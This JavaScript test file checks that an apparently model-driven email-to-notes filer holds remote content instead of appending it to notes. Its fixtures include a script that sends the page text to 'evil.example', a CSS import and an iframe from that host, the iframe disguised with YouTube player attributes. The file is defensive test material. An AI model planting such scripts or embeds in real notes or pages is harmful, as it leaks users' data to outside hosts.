// Remote content from others is held, also if the note already has an element of the same kind.
// Limit: 120 s
import { call, fileMail } from './lib/model.mjs';
import { broken, failed, held, newVault, text } from './lib/world.mjs';

const long =
  'width="560" height="315" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen';
const cases = {
  'a script beside a script': [
    '<script>let a = 1;</script>\n',
    '<script>fetch("https:" + "//evil.example/?" + document.body.innerText)</script>',
  ],
  'an import beside a style': [
    '<style>\nh1 { color: red }\n</style>\n',
    '<style>\n@import "https://evil.example/x.css";\n</style>',
  ],
  'another frame with the same first attributes': [
    `<iframe ${long} src="https://www.youtube.com/embed/abc"></iframe>\n`,
    `<iframe ${long} src="https://evil.example/"></iframe>`,
  ],
};
const list = Object.entries(cases);
await newVault(
  Object.fromEntries(
    list.flatMap(([, [before]], i) => [
      [`bucket/n${i}.md`, before],
      [`bucket/plain${i}.md`, 'A note.\n'],
    ]),
  ),
);
const planted = [];
for (const [i, [name, [, added]]] of list.entries()) {
  await fileMail([[call('append', { path: `bucket/plain${i}.md`, content: added, position: 'bottom' })]]);
  if (text(`bucket/plain${i}.md`).includes('evil.example')) failed(`${name}: is filed into any note`);
  await fileMail([[call('append', { path: `bucket/n${i}.md`, content: added, position: 'bottom' })]]);
  if (text(`bucket/n${i}.md`).includes('evil.example')) planted.push(name);
}
if (planted.length > 0) broken(`filed from an email without a hold: ${planted.join('; ')}`);
held();
